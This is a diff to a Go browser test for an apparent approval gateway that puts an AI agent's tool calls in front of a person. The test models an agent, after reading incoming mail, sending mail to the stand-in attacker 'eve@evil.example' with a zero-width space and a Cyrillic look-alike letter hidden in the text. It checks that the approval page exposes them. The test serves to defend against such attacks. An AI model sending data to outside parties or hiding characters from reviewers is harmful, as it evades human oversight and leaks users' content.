@@ -180,7 +180,7 @@ func TestGTG6_InTheBrowser(t *testing.T) {
 	call := func(args string) string {
 		return d.post(mail, token, toolCall("send_mail", args), "MCP-Protocol-Version", "2025-11-25")
 	}
-	const args = `{"to":"eve@evil.example","text":"the plan\u200b of the house"}`
+	const args = `{"to":"eve@evil.example","text":"the plan\u200b of the h\u043euse"}`
 
 	if !ran(d.post(mail, token, toolCall("list_mails", `{}`))) {
 		t.Fatal("reading is refused")
@@ -188,7 +188,7 @@ func TestGTG6_InTheBrowser(t *testing.T) {
 	page := d.pageOf(call(args))
 	annTab := chromium(t, "en")
 	text := browse(t, annTab, "approval-en", chromedp.Navigate(page), browserLogin("ann"), chromedp.WaitVisible(`button[value=approve]`))
-	for _, want := range []string{"send_mail", "eve@evil.example", "⟨U+200B⟩", "mail/list_mails", "text that strangers can write", "a test ("} {
+	for _, want := range []string{"send_mail", "eve@evil.example", "⟨U+200B⟩", "hо⟨U+043E⟩use", "minutes left: 10", "mail/list_mails", "text that strangers can write", "a test ("} {
 		if !strings.Contains(text, want) {
 			t.Errorf("the page lacks %q:\n%s", want, text)
 		}
@@ -219,7 +219,7 @@ func TestGTG6_InTheBrowser(t *testing.T) {
 		}
 		raw, _ := io.ReadAll(resp.Body)
 		resp.Body.Close()
-		if strings.Contains(string(raw), "evil.example") || req.Method == http.MethodPost && resp.StatusCode != http.StatusForbidden {
+		if strings.Contains(string(raw), "evil.example") || !strings.Contains(string(raw), `name="password"`) || req.Method == http.MethodPost && resp.StatusCode != http.StatusForbidden {
 			t.Errorf("%s: %d %.300s", name, resp.StatusCode, raw)
 		}
 	}
@@ -239,12 +239,20 @@ func TestGTG6_InTheBrowser(t *testing.T) {
 	}
 
 	// Approved in one tab, and again in another that was open before.
-	second := authtest.Tab(t, annTab, false)
-	browse(t, second, "", chromedp.Navigate(page), chromedp.WaitVisible(`button[value=approve]`))
+	second, third := authtest.Tab(t, annTab, false), authtest.Tab(t, annTab, false)
+	for _, tab := range []context.Context{second, third} {
+		browse(t, tab, "", chromedp.Navigate(page), chromedp.WaitVisible(`button[value=approve]`))
+	}
 	if text = browse(t, annTab, "approval-done", chromedp.Click(`button[value=approve]`), chromedp.WaitVisible(`.done`)); !strings.Contains(text, "once") {
 		t.Error(text)
 	}
-	if text = browse(t, second, "approval-twice", chromedp.Click(`button[value=approve]`), chromedp.WaitVisible(`.warn.strong`)); !strings.Contains(text, "decided before") {
+	if text = browse(t, second, "approval-twice", chromedp.Click(`button[value=approve]`), chromedp.WaitVisible(`.done`)); !strings.Contains(text, "Allowed once") {
+		t.Errorf("a second press of the same button: %s", text)
+	}
+	if text = browse(t, third, "approval-otherwise", chromedp.Click(`button[value=refuse]`), chromedp.WaitVisible(`.warn.strong`)); !strings.Contains(text, "decided before (allowed)") {
+		t.Error(text)
+	}
+	if text = browse(t, third, "approval-again", chromedp.Navigate(page), chromedp.WaitVisible(`.note`)); !strings.Contains(text, "Allowed once") || !strings.Contains(text, "decided before") {
 		t.Error(text)
 	}
 
@@ -312,7 +320,7 @@ func TestGTG6_InTheBrowser(t *testing.T) {
 	}
 
 	// The person's own page: what waits, what was read, and the way to begin anew.
-	if text = browse(t, annTab, "decisions", chromedp.Navigate(d.url+"/decisions")); !strings.Contains(text, "send_mail") || !strings.Contains(text, "mail/list_mails") {
+	if text = browse(t, annTab, "decisions", chromedp.Navigate(d.url+"/decisions")); !strings.Contains(text, "send_mail") || !strings.Contains(text, "mail/list_mails") || !strings.Contains(text, `"to": "x"`) || !strings.Contains(text, "a test (") {
 		t.Error(text)
 	}
 	browse(t, annTab, "", chromedp.Click(`button[value=forget]`), chromedp.WaitVisible(`.done`))
